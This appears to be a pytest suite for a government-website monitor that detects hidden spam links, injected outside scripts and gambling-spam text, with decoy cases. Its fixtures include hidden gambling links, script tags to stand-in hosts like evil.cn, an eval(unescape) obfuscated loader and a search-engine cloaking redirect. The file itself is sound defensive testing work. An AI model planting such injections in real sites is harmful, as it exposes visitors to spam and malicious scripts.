"""Dark links, injected code and banned content (SEC-04): each positive case paired with a decoy."""

import asyncio
import shutil

import pytest
from aiohttp import web

from govsites.monitoring.checks import dark_links, wording
from govsites.monitoring.crawler import Fetcher, crawl_site
from govsites.monitoring.data import DATA_DIR, DataError
from govsites.policy import profiles

from .sitebuild import doc, page, serve, site

LIMITS = dark_links.Thresholds()


def scan(body, head="", limits=LIMITS, **site_facts):
    """``{(check, target): observation}`` for one page of www.test.gov.cn."""
    observations = dark_links.check_page(page("/index.html", doc(body, head=head)), site(**site_facts), limits=limits)
    return {(o.check, o.target): o for o in observations}


def targets(body, head="", **kwargs):
    return sorted(scan(body, head, **kwargs))


# --- dark links -----------------------------------------------------------------------------


@pytest.mark.rule("SEC-04")
@pytest.mark.parametrize(
    ("body", "technique"),
    [
        ('<div style="display:none"><a href="http://www.amxpj888.com/">澳门新葡京</a></div>', "display:none"),
        ('<div style="position:absolute;left:-9999px;top:-9999px"><a href="http://www.a-shop.com/">好物</a></div>', "offscreen"),
        ('<p style="font-size:0"><a href="http://www.a-shop.com/">好物</a></p>', "font-size:0"),
        ('<div style="color:#FFF;background-color:white"><a href="http://www.a-shop.com/">好物</a></div>', "same-colour"),
        ('<style>.yl{text-indent:-9999px;overflow:hidden}</style><div class="yl"><a href="http://www.a-shop.com/">好物</a></div>', "text-indent"),
        ('<div style="height:0;overflow:hidden"><a href="http://www.a-shop.com/">好物</a></div>', "zero-size"),
        ('<marquee height="1" width="1"><a href="http://www.a-shop.com/">好物</a></marquee>', "marquee"),
        ('<span hidden><a href="http://vip.bocai-365.net/">娱乐</a></span>', "display:none"),
    ],
)
def test_hidden_links_to_outside_or_spam_sites_are_dark_links(body, technique):
    found = scan(body)
    assert len(found) == 1
    (check, target), observation = next(iter(found.items()))
    assert check == "dark_link" and target.startswith("http://")
    assert observation.detail["technique"] == technique
    assert observation.url == "https://www.test.gov.cn/index.html"
    assert "<" in observation.evidence  # the hiding element's markup


@pytest.mark.rule("SEC-04")
def test_menus_and_tricks_that_hide_legitimately_are_not_dark_links():
    body = (
        # a CSS drop-down menu with internal links
        '<style>.sub{display:none}.nav li:hover .sub{display:block}.logo{text-indent:-9999px}</style>'
        '<ul class="nav"><li>机构<ul class="sub"><li><a href="/jg/">机构设置</a></li></ul></li>'
        # … and one of outside media sites, revealed on hover
        '<li>友情链接<ul class="sub"><li><a href="http://www.people.com.cn/">人民网</a></li>'
        '<li><a href="http://www.xinhuanet.com/">新华网</a></li><li><a href="http://www.cctv.com/">央视网</a></li></ul></li></ul>'
        # a drop-down opened by a script, hidden inline
        '<div onmouseover="show(\'yq\')">相关链接<div id="yq" style="display:none"><a href="http://www.chinadaily.com.cn/">中国日报</a></div></div>'
        # image replacement of the logo, the inline-block whitespace trick, white on blue
        '<a class="logo" href="/">测试市人民政府</a>'
        '<ul style="font-size:0"><li style="font-size:14px"><a href="http://www.people.com.cn/">人民网</a></li></ul>'
        '<div style="background:#003366"><a style="color:#fff" href="http://www.xinhuanet.com/">新华网</a></div>'
        # visible links to other government sites and to the media, a link in <noscript> and a comment
        '<a href="http://www.gov.cn/">中国政府网</a><a href="https://www.cq.gov.cn/">重庆市人民政府</a>'
        '<a href="http://www.people.com.cn/">人民网</a>'
        '<noscript><a href="http://www.amxpj888.com/">澳门新葡京</a></noscript>'
        '<!-- <div style="display:none"><a href="http://www.amxpj888.com/">澳门新葡京</a></div> -->'
        # a hidden internal link about enforcement news
        '<div style="display:none"><a href="/zt/dbdb.html">打击赌博专项行动</a></div>'
        # a box hidden on phones only, one hidden for print, one shown again by a more specific rule
        '<style>@media (max-width: 768px){.pc{display:none}} @media print{.np{display:none}}'
        '.box{display:none} #partners .box{display:block}</style>'
        '<div class="pc"><a href="http://www.people.com.cn/">人民网</a><a href="http://www.news.cn/">新华网</a>'
        '<a href="http://www.cctv.com/">央视网</a></div><div class="np"><a href="http://www.cctv.com/">央视网</a></div>'
        '<div id="partners"><div class="box"><a href="http://www.news.cn/">新华网</a><a href="http://www.cctv.com/">央视网</a>'
        '<a href="http://www.people.com.cn/">人民网</a></div></div>'
    )
    assert scan(body) == {}


@pytest.mark.rule("SEC-04")
def test_a_hidden_farm_of_outside_links_is_reported_a_single_hidden_outside_link_is_not():
    farm = '<div style="display:none">' + "".join(f'<a href="http://www.site{i}.com/">链接{i}</a>' for i in range(3)) + "</div>"
    found = scan(farm)
    assert sorted(target for _, target in found) == [f"http://www.site{i}.com/" for i in range(3)]
    assert all(o.detail["farm"] == 3 for o in found.values())
    assert scan('<div style="display:none"><a href="http://www.site1.com/">链接</a></div>') == {}


@pytest.mark.rule("SEC-04")
def test_visible_links_to_spam_domains_are_dark_links_too():
    found = scan('<p>友情链接：<a href="http://www.bet365-vip.com/">足球投注</a></p>')
    assert list(found) == [("dark_link", "http://www.bet365-vip.com/")]
    assert found["dark_link", "http://www.bet365-vip.com/"].detail["technique"] == "visible"
    # a visible outside link with an ordinary name is not
    assert scan('<p>友情链接：<a href="http://www.bet-tech.example.com/">某科技公司</a></p>') == {}


@pytest.mark.rule("SEC-04")
def test_links_written_by_a_script_are_examined():
    body = ('<script>document.write("<div style=\\"display:none\\"><a href=\\"http://www.bocai123.com\\">'
            '百家乐</a></div>");</script>')
    found = scan(body)
    assert list(found) == [("dark_link", "http://www.bocai123.com/")]
    assert found["dark_link", "http://www.bocai123.com/"].detail["via"] == "document.write"


# --- injected code --------------------------------------------------------------------------


@pytest.mark.rule("SEC-04")
def test_scripts_and_frames_from_outside_are_injected_code():
    body = (
        '<script src="http://cdn.evil-stats.net/a.js"></script>'
        '<iframe src="http://tj.a-shop.com/t.html" width="0" height="0" frameborder="0"></iframe>'
        '<iframe src="http://video.media.com/player" width="640" height="360"></iframe>'
        # decoys: own site, its CDN subdomain, allow-listed analytics and the site-mark badge,
        # a domain the registry lists for the site, a script inside <noscript>, a JSON data block
        '<script src="/js/jquery.js"></script><script src="https://static.test.gov.cn/js/menu.js"></script>'
        '<script src="https://hm.baidu.com/hm.js?abc"></script>'
        '<script id="_jiucuo_" src="https://zfwzgl.www.gov.cn/exposure/jiucuo.js"></script>'
        '<span id="_ideConac"><script src="https://dcs.conac.cn/js/33/000/0000/60425477/CA330000000604254770001.js"></script></span>'
        '<script src="https://api.partner-maps.com/v1.js"></script>'
        '<noscript><iframe src="http://legacy.example.com/"></iframe></noscript>'
        '<script type="application/ld+json" src="http://schema.example.org/x.json"></script>'
    )
    found = scan(body, allowed_domains=("partner-maps.com",))
    assert sorted(found) == [
        ("injected_code", "http://cdn.evil-stats.net/a.js"),
        ("injected_code", "http://tj.a-shop.com/t.html"),
        ("injected_code", "http://video.media.com/player"),
    ]
    invisible = found["injected_code", "http://tj.a-shop.com/t.html"].detail
    visible = found["injected_code", "http://video.media.com/player"].detail
    assert invisible["invisible"] and invisible["score"] > visible["score"]


@pytest.mark.rule("SEC-04")
def test_obfuscated_and_redirecting_inline_scripts_are_injected_code():
    hidden_write = "document.write('<script src=http://evil.cn/a.js></script>')"
    escaped = "".join(f"%{ord(c):02x}" for c in hidden_write)
    found = scan(f'<script>eval(unescape("{escaped}"));</script>')
    assert list(found) == [("injected_code", "http://evil.cn/a.js")]
    encoded = "ZG9jdW1lbnQud3JpdGUoJ2hlbGxvJyk="  # document.write('hello'): no URL inside
    (check, target), = scan(f'<script>eval(atob("{encoded}"))</script>')
    assert check == "injected_code" and target.startswith("inline-script#")
    cloaking = ('<script>var r=document.referrer;if(r.indexOf("baidu")>0||r.indexOf("sogou")>0)'
                '{window.location.href="http://www.xpj-vip.com/";}</script>')
    assert list(scan(cloaking)) == [("injected_code", "http://www.xpj-vip.com/")]
    assert scan(cloaking)["injected_code", "http://www.xpj-vip.com/"].detail["search_engine_cloaking"]
    refresh = '<meta http-equiv="refresh" content="0;url=http://www.spam-portal.com/">'
    assert targets("<p>x</p>", head=refresh) == [("injected_code", "http://www.spam-portal.com/")]


@pytest.mark.rule("SEC-04")
def test_ordinary_inline_scripts_are_not_injected_code():
    body = (
        '<script>var _hmt = _hmt || [];(function(){var hm = document.createElement("script");'
        'hm.src = "https://hm.baidu.com/hm.js?abc";document.getElementsByTagName("script")[0].parentNode.insertBefore(hm, null);})();</script>'
        '<script>if (/Mobile/.test(navigator.userAgent)) { window.location.href = "https://m.test.gov.cn/"; }</script>'
        '<script>document.write("<a href=\\"/xxgk/\\">信息公开</a>"); var from = document.referrer;</script>'
        '<script>function show(id){document.getElementById(id).style.display="block";}</script>'
    )
    assert scan(body, head='<meta http-equiv="refresh" content="300">') == {}


# --- banned content -------------------------------------------------------------------------

SPAM = "<p>" + "澳门新葡京 真人娱乐 百家乐 在线投注 开户送彩金 首存送100% 提款秒到 皇冠体育 时时彩 北京PK10 " * 12 + "</p>"
NEWS = "<p>" + (
    "市公安局召开新闻发布会，通报严厉打击网络赌博违法犯罪专项行动成果。今年以来，共破获赌博案件12起，"
    "查处跨境赌博平台3个，抓获犯罪嫌疑人56名。警方提醒广大群众，远离赌博，谨防网络赌博陷阱，"
    "发现涉赌线索请及时举报。同时开展扫黄打非专项行动，查处淫秽色情信息。"
) * 2 + "</p>"


@pytest.mark.rule("SEC-04")
def test_a_page_of_gambling_spam_is_banned_content_a_crackdown_article_is_not():
    found = scan(SPAM)
    assert list(found) == [("banned_content", "")]
    detail = found["banned_content", ""].detail
    assert detail["where"] == "body" and detail["score"] >= 20 and detail["density"] > 0.3
    assert "北京pk10" in detail["terms"] and "澳门新葡京" in detail["terms"] and "新葡京" not in detail["terms"]
    assert found["banned_content", ""].evidence.startswith("正文违规词：")
    assert scan(NEWS) == {}


@pytest.mark.rule("SEC-04")
def test_density_and_variety_are_both_needed():
    diluted = SPAM[:200] + "<p>" + "市政府召开常务会议，研究部署重点工作。" * 400 + "</p>"
    assert scan(diluted) == {}  # a few spam words in a long normal page (density too low)
    assert list(scan(diluted, limits=dark_links.Thresholds(banned_min_density=0.001))) == [("banned_content", "")]
    repeated = "<p>" + "百家乐 " * 50 + "</p>"
    assert scan(repeated) == {}  # one word, however often, is not enough variety


@pytest.mark.rule("SEC-04")
def test_a_hijacked_title_and_keywords_are_banned_content():
    head = '<meta name="keywords" content="澳门新葡京,百家乐,真人娱乐">'
    found = scan("<p>欢迎访问测试市人民政府网站</p>", head=head)
    assert list(found) == [("banned_content", "")]
    assert found["banned_content", ""].detail["where"] == "head"
    assert scan("<p>欢迎访问</p>", head='<meta name="keywords" content="打击赌博,扫黄打非">') == {}


# --- knobs, robustness, data ----------------------------------------------------------------


def test_thresholds_come_from_the_profile(tmp_path, monkeypatch, settings):
    assert dark_links.thresholds() == dark_links.Thresholds()  # the national profile sets none
    custom = tmp_path / "custom.toml"
    custom.write_text(
        'extends = "national"\nname = "custom"\n[monitoring.dark_links]\nallow_domains = ["media.com"]\nfarm_links = 2\n',
        encoding="utf-8",
    )
    for path in profiles.PROFILE_DIR.glob("*.toml"):
        shutil.copy(path, tmp_path / path.name)
    monkeypatch.setattr(profiles, "PROFILE_DIR", tmp_path)
    profiles.load.cache_clear()
    settings.GOVSITES_POLICY_PROFILE = "custom"
    try:
        limits = dark_links.thresholds()
        assert limits.allow_domains == ("media.com",) and limits.farm_links == 2
        assert limits.banned_min_score == dark_links.Thresholds().banned_min_score
        body = '<iframe src="http://video.media.com/player"></iframe>'
        assert dark_links.check_page(page("/", doc(body)), site()) == []
    finally:
        profiles.load.cache_clear()


@pytest.mark.parametrize(
    "html",
    [
        "",
        "<html><body><a href='http://[::1'>broken</a><a href='javascript:void(0)'>js</a><a href='mailto:a@b.c'>m</a>",
        "<div style='display:none'><a href='http://bad.example.com:99999/'>bad port</a>",
        "<style>@media screen{.x{display:none}</style><style>a[href^='http'{color:red}</style><div class=x><a href=http://x.com/>x</a>",
        "<p>" * 5000 + "国务院总理李墙" + "</div>" * 300,
        "\x00\x01\x02<html>\ufffd\ufffd binary-ish",
    ],
)
def test_odd_markup_never_raises(html):
    observations = dark_links.check_page(page("/odd.html", html), site(), limits=LIMITS)
    assert all(o.check in ("dark_link", "injected_code", "banned_content") for o in observations)
    assert isinstance(wording.check_page(page("/odd.html", html)), list)


def test_a_large_page_is_scanned_whole():
    """A 300 KB page with 3 000 links, a big inline stylesheet and a hidden spam link at its end
    (speed, ~40 ms, is the benchmark's business)."""
    css = "".join(f".c{i}{{color:#333;font-size:14px}} .h{i}{{display:none}}" for i in range(300))
    items = "".join(f'<li class="c{i % 300}"><a href="/a/{i}.html">第{i}条政务信息标题示例文字</a><span>2024-05-01</span></li>'
                    for i in range(3000))
    outside = "".join(f'<a href="http://www.media{i}.com/">媒体{i}</a>' for i in range(50))
    html = doc(f"<style>{css}</style><ul>{items}</ul>{outside}<div class='h1'><a href='http://www.amxpj.com/'>澳门新葡京</a></div>")
    assert len(html.encode()) > 300_000
    found = dark_links.check_page(page("/big.html", html), site(), limits=LIMITS)
    assert [(o.check, o.target) for o in found] == [("dark_link", "http://www.amxpj.com/")]


def test_invalid_vocabulary_is_reported_with_file_and_line(tmp_path):
    data = tmp_path / "data"
    shutil.copytree(DATA_DIR, data, ignore=shutil.ignore_patterns("*.py", "__pycache__"))
    with (data / "banned.tsv").open("a", encoding="utf-8") as handle:
        handle.write("博彩\tgambling\t2\ttext\nfoo\tdrugs\t3\ttext\nbar\tgambling\tnine\tdomain\nb2\tgambling\t5\tdomain\n")
    with pytest.raises(DataError) as error:
        dark_links.load_vocabulary(data)
    message = str(error.value)
    for expected in ("“博彩”重复", "类别应为 gambling/porn/game", "权重应为1到5的整数", "域名词应为小写字母和数字"):
        assert expected in message
    assert message.count("banned.tsv 第") == 4


# --- end to end: a real server, the crawler, both content checks ----------------------------

HOME_PAGE = doc(
    '<a href="/xwzx/1.html">国务院常务会议</a>'
    '<div style="position:absolute;left:-3000px"><a href="http://www.amxpj888.com/">澳门新葡京</a></div>'
    '<script src="http://cdn.evil-stats.net/a.js"></script>',
    title="测试市人民政府",
)
ARTICLE = (
    '<html><head><meta http-equiv="Content-Type" content="text/html; charset=gbk"><title>国务院常务会议</title>'
    '<meta name="PubDate" content="2024-05-06 10:00"></head>'
    "<body><p>国务院总理李克强主持召开国务院常务会议，认真布署下一阶段工作。</p></body></html>"
)


@pytest.mark.rule("SEC-04", "SUP-03")
def test_a_crawled_site_gets_content_findings_gbk_pages_included():
    async def home(request):
        return web.Response(text=HOME_PAGE, content_type="text/html")

    async def article(request):
        return web.Response(body=ARTICLE.encode("gbk"), content_type="text/html", charset="gbk")

    async def crawl(base):
        async with Fetcher(host_delay=0, timeout=5, retries=0) as fetcher:
            return await crawl_site(fetcher, base + "/", max_depth=1, keep_documents=True)

    with serve([("/", home), ("/xwzx/1.html", article)]) as base:
        pages = asyncio.run(crawl(base))
        facts = site(host=base.split("//")[1].split(":")[0], home_url=base + "/")
        security = {(o.check, o.target) for o in dark_links.check_dark_links(facts, pages, limits=LIMITS)}
        content = {(o.check, o.target, o.url) for o in wording.check_wording(facts, pages)}
    assert security == {("dark_link", "http://www.amxpj888.com/"), ("injected_code", "http://cdn.evil-stats.net/a.js")}
    assert content == {
        ("serious_wording", "国务院总理李克强", base + "/xwzx/1.html"),
        ("typo", "布署", base + "/xwzx/1.html"),
    }
